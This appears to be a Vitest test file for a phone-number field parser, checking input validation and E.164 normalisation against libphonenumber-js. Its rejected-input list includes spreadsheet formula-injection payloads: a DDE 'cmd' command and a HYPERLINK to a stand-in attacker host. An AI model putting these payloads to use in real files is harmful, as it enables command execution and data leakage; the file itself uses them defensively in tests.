import fc from 'fast-check';
import parsePhoneNumber, {
  type CountryCode,
  getCountries,
  getCountryCallingCode,
  Metadata,
} from 'libphonenumber-js';
import examples from 'libphonenumber-js/examples.mobile.json' with { type: 'json' };
import { describe, expect, test } from 'vitest';
import { normalisePhone } from '../../../src/field-types/phone.ts';
import { readCell } from './reading.ts';

describe('a phone number', () => {
  test.each([
    ...[
      '030-0074321',
      '(5) 555-4729',
      '+44 20 7946 0018',
      '0800 FLOWERS',
      '846-790-4623x4715',
      '001-680-204-8312',
    ],
    ...['020 7946 0018 ext. 12', '٠٢٠٧٩٤٦٠٠١٨', '112', 'tel:+44-20-7946-0018'],
  ])('%j stays as typed', (cell) => {
    expect(readCell('phone', ` ${cell} `)).toBe(cell);
  });

  test.each([
    ...[
      'n/a',
      'unknown',
      '-',
      '+',
      '12',
      '=1+1',
      '@SUM(A1:A2)',
      "=cmd|'/c 10.0.0.1'!A1",
      'ada123@example.com',
      '<b>123</b>',
    ],
    ...['=HYPERLINK("http://evil.example/?x=123","click")'],
  ])('%j is none', (cell) => {
    expect(readCell('phone', cell)).toBe('phone.invalid');
  });

  test.each(['4.47911E+11', '447911123456.0'])('%j is what is left of one', (cell) => {
    expect(readCell('phone', cell)).toBe('value.spoiled');
  });

  test('is no longer than the field allows', () => {
    expect(readCell('phone', '1'.repeat(51))).toBe('text.too_long');
    expect(readCell('phone', '123456', { field: { max: 5 } })).toBe('text.too_long');
  });
});

describe('the E.164 form', () => {
  test.each([
    ['+44 20 7946 0018', undefined, '+442079460018'],
    ['+44 (0)20 7946 0018', undefined, '+442079460018'],
    ['020 7946 0018', 'GB', '+442079460018'],
    ['0044 20 7946 0018', 'DE', '+442079460018'],
    ['011 44 20 7946 0018', 'US', '+442079460018'],
    ['44 20 7946 0018', 'GB', '+442079460018'],
    ['(775) 555-0154', 'US', '+17755550154'],
    ['1-775-555-0154', 'US', '+17755550154'],
    ['846-790-4623x4715', 'US', '+18467904623'],
    ['846-790-4623 ext. 4715', 'US', '+18467904623'],
    ['+1 (555) 010-0000', undefined, '+15550100000'],
    ['8 (800) 555-35-35', 'RU', '+78005553535'],
    ['02 1234 5678', 'IT', '+390212345678'],
    ['011 15 2345 6789', 'AR', '+5491123456789'],
    ['٠٢٠ ٧٩٤٦ ٠٠١٨', 'GB', '+442079460018'],
    ['+800 1234 5678', undefined, '+80012345678'],
    ['1-800-FLOWERS', 'US', null],
    ['020 7946 0018', undefined, null],
    ['020 7946 0018', 'XX', null],
    ['030-0074321', 'US', null],
    ['555-0123', 'US', null],
    ['+0 123 456 789', undefined, null],
    ['+999 123 456 789', undefined, null],
    ['112', 'DE', null],
    ['not a number', 'DE', null],
    ['', 'DE', null],
    ['1'.repeat(300), 'DE', null],
  ])('of %j in %s is %s', (text, country, e164) => {
    expect(normalisePhone(text, country)).toBe(e164);
    expect(normalisePhone(text, country)).toBe(e164);
  });

  /** What stands in the library's tables, reached for another way. */
  interface LibraryTables {
    getCountryCodesForCallingCode(code: string): readonly string[] | undefined;
    selectNumberingPlan(country: string): {
      numberingPlan: { nationalNumberPattern(): string; nationalPrefix(): string | undefined };
    };
  }
  const tables = new Metadata() as unknown as LibraryTables;
  const planOf = (country: string) => tables.selectNumberingPlan(country).numberingPlan;

  const patterns = new Map<string, RegExp>();
  function fits(country: string, national: string): boolean {
    const pattern = patterns.get(country) ?? new RegExp(`^(?:${planOf(country).nationalNumberPattern()})$`);
    patterns.set(country, pattern);
    return pattern.test(national);
  }

  function byLibrary(text: string, country: CountryCode | undefined): string | null {
    const parsed = parsePhoneNumber(text, country);
    if (parsed === undefined) return null;
    const code = parsed.countryCallingCode;
    const sharing = tables.getCountryCodesForCallingCode(code) ?? [code];
    return sharing.some((each) => fits(each, parsed.nationalNumber)) ? parsed.number : null;
  }

  const countries = getCountries();
  const dialled = ['00', '011', '0011', '810', '009', '010', '119'];
  const separators = ['', '', '', ' ', '-', '.', '/', ' (', ') ', '[', ']', '\u00a0'];

  /** As people write numbers of a country, rightly and wrongly. @param below gives a number from 0 up to one below. */
  function writtenNumber(below: (limit: number) => number): {
    text: string;
    country: CountryCode | undefined;
  } {
    const one = <T>(list: readonly T[]): T => list[below(list.length)] as T;
    const country = one(countries);
    const code = getCountryCallingCode(country);
    const trunk = planOf(country).nationalPrefix() || '';
    const anyDigits = Array.from({ length: 3 + below(12) }, () => String(below(10)));
    const digits: string[] = below(6) === 0 ? anyDigits : [...examples[country]];
    for (let changed = below(5); changed > 0; changed--) digits[below(digits.length)] = String(below(10));
    if (below(6) === 0) digits.pop();
    if (below(8) === 0) digits.push('7');
    const prefix = one([
      '',
      trunk,
      trunk,
      `+${code}`,
      `+${code}${trunk}`,
      code,
      '+',
      `${one(dialled)}${code}`,
    ]);
    const text = [...prefix, ...digits].map((unit) => `${unit}${one(separators)}`).join('');
    return {
      text: `${text}${one(['', '', '', '', 'x12345', ' X1'])}`,
      country: one([country, country, country, one(countries), undefined]),
    };
  }

  test('is the one that the library finds, in every country', { timeout: 60_000 }, () => {
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 0x7fffffff }), (seed) => {
        let state = seed;
        const below = (limit: number) => {
          state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
          return Math.floor((state / 2 ** 32) * limit);
        };
        for (let count = 0; count < 1000; count++) {
          const { text, country } = writtenNumber(below);
          expect([text, country, normalisePhone(text, country)]).toEqual([
            text,
            country,
            byLibrary(text, country),
          ]);
        }
      }),
      { numRuns: 30 },
    );
  });

  test('is the one that the library finds for what it is asked itself', () => {
    const pieces = fc.constantFrom(
      '+',
      '0',
      '7',
      '20',
      '7946',
      ' ',
      'x',
      'ext.',
      ';ext=',
      '#',
      ',',
      'tel:',
      '~',
      '０',
      '٣',
      '\t',
      'a',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 10 }), (parts) => {
        expect(normalisePhone(parts.join(''), 'GB')).toBe(byLibrary(parts.join(''), 'GB'));
      }),
      { numRuns: 2000 },
    );
  });
});
